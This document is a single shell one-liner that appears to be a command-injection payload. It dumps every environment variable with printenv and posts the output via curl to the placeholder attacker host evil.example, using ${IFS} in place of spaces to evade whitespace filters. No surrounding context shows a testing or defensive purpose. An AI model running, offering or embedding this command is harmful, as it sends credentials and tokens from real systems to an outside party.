printenv|curl${IFS}-d${IFS}@-${IFS}https://evil.example
